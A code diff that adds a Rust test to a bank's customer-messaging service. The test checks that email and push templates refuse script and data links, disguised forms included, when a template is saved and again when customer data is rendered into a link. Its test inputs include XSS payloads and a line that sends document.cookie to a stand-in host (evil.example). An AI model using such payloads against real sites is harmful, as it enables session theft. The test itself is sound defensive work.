@@ -1527,3 +1527,142 @@ async fn zalo_delivery_callbacks_are_verified_and_staff_can_enter_a_refusal() {
     assert_eq!(totals["counts"]["sent"], 2, "{totals}");
     assert_eq!(totals["counts"]["delivered"], 1, "{totals}");
 }
+
+/// A template's links may use http, https, mailto and tel (and, in a push deep link, the app's
+/// own schemes): `javascript:`, `data:` and their disguises are refused when the template is
+/// saved, and a customer attribute rendered into an `href` is checked again when the message is
+/// rendered, so one customer's hostile data never becomes a link.
+#[tokio::test]
+async fn templates_refuse_script_and_data_links_at_save_and_at_render() {
+    let mut settings = nhip_app::Settings::default();
+    settings.messaging.link_secret = Some(LINK_SECRET.to_vec());
+    settings.messaging.app_link_schemes = vec!["nhipbank".into()];
+    let ctx = Ctx {
+        local: local_deps_with_settings(settings),
+        admin: String::new(),
+    };
+    let ctx = Ctx {
+        admin: ctx.local.deps.auth.issue(
+            &Principal::new("root", Role::Admin, None),
+            ctx.local.deps.clock.now(),
+            chrono::Duration::hours(1),
+        ),
+        ..ctx
+    };
+    let save = |code: &str, content: Value| {
+        let body = json!({"code": code, "name": code, "content": content, "publish": true});
+        ctx.call("POST", "/v1/templates", Some(body))
+    };
+    let html = |href: &str| {
+        json!({"channel": "email", "subject": "Ưu đãi", "text": "Ưu đãi",
+               "html": format!("<p><a href=\"{href}\">Xem</a></p>")})
+    };
+    for (i, href) in [
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        "&#106;avascript:alert(1)",
+        "&#x6A;&#x61;vascript&#58;alert(1)",
+        "java\tscript:alert(1)",
+        " data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "vbscript:msgbox(1)",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let (status, body) = save(&format!("xau-{i}"), html(href)).await;
+        assert_eq!(status, 422, "{href:?}: {body}");
+        assert!(
+            body["error"]["fields"]["content.html"]
+                .as_str()
+                .is_some_and(|m| m.contains("không được phép")),
+            "{href:?}: {body}"
+        );
+    }
+    for (i, href) in [
+        "https://abc.vn/uu-dai",
+        "mailto:cskh@abc.vn",
+        "tel:19001234",
+        "#top",
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let (status, body) = save(&format!("tot-{i}"), html(href)).await;
+        assert_eq!(status, 201, "{href}: {body}");
+    }
+    let push = |link: &str| json!({"channel": "push", "title": "Thẻ", "body": "Kích hoạt", "deep_link": link});
+    let (status, body) = save("push-xau", push("javascript:alert(1)")).await;
+    assert_eq!(status, 422, "{body}");
+    assert!(
+        body["error"]["fields"]["content.deep_link"].is_string(),
+        "{body}"
+    );
+    let (status, body) = save("push-la", push("otherapp://x")).await;
+    assert_eq!(status, 422, "a scheme not configured: {body}");
+    let (status, body) = save("push-tot", push("nhipbank://the/kich-hoat")).await;
+    assert_eq!(status, 201, "{body}");
+
+    // A link from customer data: saved (the sample is harmless), checked per message.
+    let (status, body) = save(
+        "trang-ca-nhan",
+        html("{{ customer.attributes.trang_ca_nhan }}"),
+    )
+    .await;
+    assert_eq!(status, 201, "{body}");
+    let mut customers = Vec::new();
+    for (phone, link) in [
+        (
+            "0912000001",
+            "javascript:fetch('//evil.example/'+document.cookie)",
+        ),
+        // Rendered data is escaped (`&amp;#106;…`): the browser reads this one as the text it
+        // is, a harmless relative link, so it is sent.
+        ("0912000002", "&#106;avascript:alert(1)"),
+        ("0912000003", "https://abc.vn/kh/3"),
+    ] {
+        let (status, body) = ctx
+            .call(
+                "POST",
+                "/v1/customers",
+                Some(json!({"full_name": "Phạm Văn Long", "phones": [phone],
+                            "emails": [format!("kh{phone}@example.vn")], "source": "assigned",
+                            "consents": ["email:care"],
+                            "attributes": {"trang_ca_nhan": link}})),
+            )
+            .await;
+        assert_eq!(status, 201, "{body}");
+        customers.push(body["id"].as_str().unwrap().to_owned());
+    }
+    for (i, customer) in customers.iter().enumerate() {
+        let outcome = pipeline::process(
+            ctx.deps(),
+            &request(
+                &format!("tcn#{i}"),
+                customer,
+                "email",
+                "trang-ca-nhan",
+                SendPurpose::Care,
+            ),
+        )
+        .await
+        .unwrap();
+        let sent = ctx.sent_for(&outcome.message_id).await;
+        if i == 0 {
+            assert_eq!(outcome.status, Status::Failed, "{customer}");
+            assert!(sent.is_empty(), "nothing sent to {customer}");
+            let message = ctx.message(&outcome.message_id).await;
+            assert_eq!(
+                message.reason.as_deref(),
+                Some("unsafe_link"),
+                "{message:?}"
+            );
+        } else {
+            assert_eq!(outcome.status, Status::Sent);
+            assert_eq!(sent.len(), 1);
+            let html = serde_json::to_string(&sent[0].envelope).unwrap();
+            if i == 1 {
+                assert!(html.contains("&amp;#106;avascript"), "{html}");
+            }
+        }
+    }
+}
